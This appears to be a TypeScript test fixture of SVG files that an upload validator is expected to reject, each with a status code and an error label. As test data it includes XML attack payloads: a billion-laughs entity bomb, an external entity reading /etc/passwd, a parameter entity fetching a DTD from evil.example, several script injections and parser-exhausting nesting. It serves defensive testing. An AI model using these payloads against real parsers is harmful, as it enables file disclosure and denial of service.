import { svg, type RejectedFile } from './hostile-pictures';

const repeat = (count: number, make: (index: number) => string) =>
  Array.from({ length: count }, (_, index) => make(index)).join('');
const sized = (attributes: string) =>
  `<svg xmlns="http://www.w3.org/2000/svg" ${attributes}><path d="M0 0h9v9z"/></svg>`;

/** SVGs that no browser reads or that show nothing, and those that would keep a parser busy. */
export const REJECTED_SVGS: RejectedFile[] = [
  [
    'a billion laughs',
    () => {
      const entities = repeat(
        9,
        (level) => `<!ENTITY a${level + 1} "${`&a${level};`.repeat(10)}">`,
      );
      return svg('<text>&a9;</text>', `<!DOCTYPE svg [<!ENTITY a0 "laughter">${entities}]>`);
    },
    400,
    'drawing-entities',
  ],
  [
    'entities in a circle',
    () => svg('<text>&a;</text>', '<!DOCTYPE svg [<!ENTITY a "&b;"><!ENTITY b "&a;">]>'),
    400,
    'drawing-entities',
  ],
  [
    'an entity of markup',
    () => svg('&a;', `<!DOCTYPE svg [<!ENTITY a "&#60;path d='M0 0h9v9z'/>">]>`),
    400,
    'drawing-entities',
  ],
  [
    'an entity of markup in single quotes',
    () => svg('&a;<path d="M0 0h9"/>', `<!DOCTYPE svg [<!ENTITY a '<path d="M0 0h9v9z"/>'>]>`),
    400,
    'drawing-entities',
  ],
  [
    'a script in an entity',
    () => svg('&a;<path d="M0 0h9"/>', '<!DOCTYPE svg [<!ENTITY a "<script>alert(1)</script>">]>'),
    400,
    'drawing-entities',
  ],
  [
    'an entity of a file',
    () => svg('&a;<path d="M0 0h9"/>', '<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>'),
    400,
    'drawing-malformed',
  ],
  [
    'an SVG whose size is an attribute in its DTD',
    () => `<!DOCTYPE svg [<!ATTLIST svg viewBox CDATA "0 0 9 9">]>${sized('')}`,
    400,
    'drawing-without-size',
  ],
  [
    'a parameter entity alone',
    () => svg('', '<!DOCTYPE svg [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]>'),
    400,
    'drawing-empty',
  ],
  [
    'an SVG that says it is in UTF-7',
    () => svg('+ADw-script/+AD4-', '<?xml version="1.0" encoding="UTF-7"?>'),
    400,
    'drawing-encoding',
  ],
  [
    'an SVG in another encoding than it says',
    () => Buffer.from(svg('<text>Größe</text>'), 'latin1'),
    400,
    'drawing-encoding',
  ],
  ['an SVG with a null byte', () => svg('<path d="M0 0h9"/><scr\0ipt/>'), 400, 'drawing-malformed'],
  ['an SVG with an entity of HTML', () => svg('<text>&nbsp;</text>'), 400, 'drawing-malformed'],
  [
    'an SVG that is not closed',
    () => '<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0h9">',
    400,
    'drawing-malformed',
  ],
  [
    'an SVG of another namespace',
    () => '<svg xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></svg>',
    415,
    'unsupported-type',
  ],
  ['an SVG of nothing but a script', () => svg('<script>alert(1)</script>'), 400, 'drawing-empty'],
  [
    'an SVG nested very deep, in letters of any alphabet',
    () => svg('<é>'.repeat(5000) + '</é>'.repeat(5000)),
    413,
    'drawing-too-complex',
  ],
  [
    'an SVG of groups that are nested very deep',
    () => svg(`${'<g>'.repeat(5000)}<path d="M0 0h9"/>${'</g>'.repeat(5000)}`),
    413,
    'drawing-too-complex',
  ],
  [
    'an SVG with very many attributes',
    () => svg(`<path ${repeat(50_000, (index) => `a${index}="" `)}/>`),
    413,
    'drawing-too-complex',
  ],
  [
    'an SVG with rules nested very deep',
    () => svg(`<style>${'@media a{'.repeat(40_000)}</style><path d="M0 0h1"/>`),
    413,
    'drawing-too-complex',
  ],
  ['an SVG of countless parts', () => svg('<g/>'.repeat(20_001)), 413, 'drawing-too-complex'],
  ['an SVG of more than 1 MB of markup', () => svg(' '.repeat(2 ** 20)), 413, 'drawing-too-large'],
  ['an SVG of more than 5 MB', () => svg(' '.repeat(5 * 2 ** 20)), 413, 'drawing-too-large'],
  ['an SVG without a size', () => sized(''), 400, 'drawing-without-size'],
  [
    'an SVG as large as the page around it',
    () => sized('width="100%" height="100%"'),
    400,
    'drawing-without-size',
  ],
  ['an SVG of a width alone', () => sized('width="9"'), 400, 'drawing-without-size'],
  ['an SVG of no height', () => sized('width="9" height="0"'), 400, 'drawing-without-size'],
  ['an SVG with a view of nothing', () => sized('viewBox="0 0 0 0"'), 400, 'drawing-without-size'],
];
